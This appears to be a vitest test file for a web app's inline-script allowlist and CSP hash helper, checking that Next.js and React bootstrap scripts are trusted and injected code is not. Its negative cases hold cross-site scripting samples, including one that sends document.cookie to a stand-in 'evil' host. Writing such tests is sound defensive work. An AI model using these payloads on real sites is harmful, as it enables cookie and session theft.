import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { themeScript } from "@/components/theme/theme-script.ts";
import { inlineScripts, isTrustedInlineScript, scriptHash, trustedScriptHashes } from "./inline-scripts.ts";

describe("isTrustedInlineScript", () => {
  it.each([
    ["Next's flight bootstrap", "(self.__next_f=self.__next_f||[]).push([0])"],
    ["a flight chunk", 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[82844,[],\\"default\\"]\\n"])'],
    ["a flight chunk with form state", "self.__next_f.push([2,null])"],
    ["Turbopack's chunk list", '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[24313]});'],
    ["the theme script", themeScript],
    ["a React boundary completion", '$RC("B:1","S:1")'],
    ["React's timing helper", "requestAnimationFrame(function(){$RT=performance.now()});"],
    ["next dev's build id", 'self.__next_r="-4cZqkHM-iRaOqUJgPoaK";var __nextHmrInitialVersion="0";'],
  ])("trusts %s", (_name, script) => {
    expect(isTrustedInlineScript(script)).toBe(true);
  });

  it.each([
    ["arbitrary code", "alert(document.cookie)"],
    ["code after a flight chunk", 'self.__next_f.push([1,"x"]);alert(1)'],
    ["code inside a flight chunk", "self.__next_f.push([1,alert(1)])"],
    ["a flight chunk pushing code through an array", 'self.__next_f.push([1,"x"]);fetch("//evil")'],
    ["a forged React definition", '$RC=function(a,b){fetch("//evil?"+document.cookie)};$RC("B:1","S:1")'],
    ["code as a React call argument", '$RC("B:1",alert(1))'],
    ["code before a React call", 'alert(1);$RC("B:1","S:1")'],
    ["code in Turbopack's chunk list", '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({a:alert(1)})'],
    ["a theme script with one more statement", `${themeScript};alert(1)`],
    ["an empty script", ""],
    ["code in next dev's build id", 'self.__next_r="x";var __nextHmrInitialVersion=alert(1);'],
  ])("does not trust %s", (_name, script) => {
    expect(isTrustedInlineScript(script)).toBe(false);
  });
});

describe("inlineScripts", () => {
  it("finds executable inline scripts only", () => {
    const html =
      '<html><head><script>a()</script><script src="/x.js"></script><script type="application/ld+json">{"@type":"Article"}</script>' +
      '<script type="module">b()</script><SCRIPT id="_R_">c()</SCRIPT ></head></html>';
    expect(inlineScripts(html)).toEqual(["a()", "b()", "c()"]);
  });
});

describe("trustedScriptHashes", () => {
  it("hashes the trusted scripts of a page once each, and never an injected one", () => {
    const flight = "(self.__next_f=self.__next_f||[]).push([0])";
    const html = `<script>${flight}</script><p><script>alert(1)</script></p><script>${flight}</script><script>${themeScript}</script>`;
    const expected = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
    expect(trustedScriptHashes(html)).toEqual([expected(flight), expected(themeScript)]);
    expect(trustedScriptHashes(html)).not.toContain(scriptHash("alert(1)"));
  });
});
